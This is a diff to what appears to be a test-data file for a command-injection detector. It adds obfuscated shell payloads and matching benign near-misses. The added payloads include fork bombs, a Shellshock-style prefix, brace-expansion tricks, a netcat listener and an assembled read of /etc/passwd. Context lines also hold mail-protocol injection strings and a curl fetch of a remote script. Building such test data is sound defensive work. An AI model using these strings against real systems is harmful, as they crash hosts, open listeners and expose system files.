@@ -54,6 +54,8 @@ COMMANDS = {
     "mail protocol": ["x@example.com\r\nRCPT TO:<victim@example.org>", "\r\nMAIL FROM:<a@b.com>", "\r\nDATA",
                       "\r\nA1 QUIT", "\r\na001 EXAMINE INBOX", "\r\nd store 2 +FLAGS (\\Deleted)\n",
                       "\r\nRETR 123", "\r\nlist 3", "INBOX\r\nA2 LOGIN admin secret"],
+    "assembled": ["f(){ f & f; };f", "f(){ f() | f(); }; f", "() {", "{id,}", "{,ifconfig,eth0}",
+                  "a=nc&&$a -nlvp 555", "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "';htop'"],
     "line ended": ["visudo\n", "nohup who\n", "time who\n", "cscli alerts list\n", "pip3 install something\n",
                    "ansible-console\n", "chef-client -t 1.1.1.1\n"],
     "unix": ["; cat /etc/passwd", "| id", "&& sleep 5", "; ping -c 10 127.0.0.1", "|curl http://x.example/a.sh",
@@ -71,6 +73,8 @@ COMMAND_NEAR_MISSES = [
     # line breaks in free text: mail verbs in prose, a recipe line, a command word ending a sentence
     "Line one\nI select the blue one", "Thanks\nData attached", "hello\nlist of items", "See you\nUser guide",
     "Cut orange quarters into crosswise slices about 1/8-inch thick.\n", "Go to store.\nAt the store, shop.",
+    "function f(){ return 1 };", "x() { return y }", "() => {}", "{id,name}", "q={id,name}", "{ls}",
+    "a=1&b=2&c=$5", "price=5 and $x", "Total=5; $total",
     "pip\n", "top\n", "date\n", "Dear team,\r\nHelp is on the way", "Notes:\nquit smoking", "a\nstore 2 apples",
 ]
 CODE_PAYLOADS = {
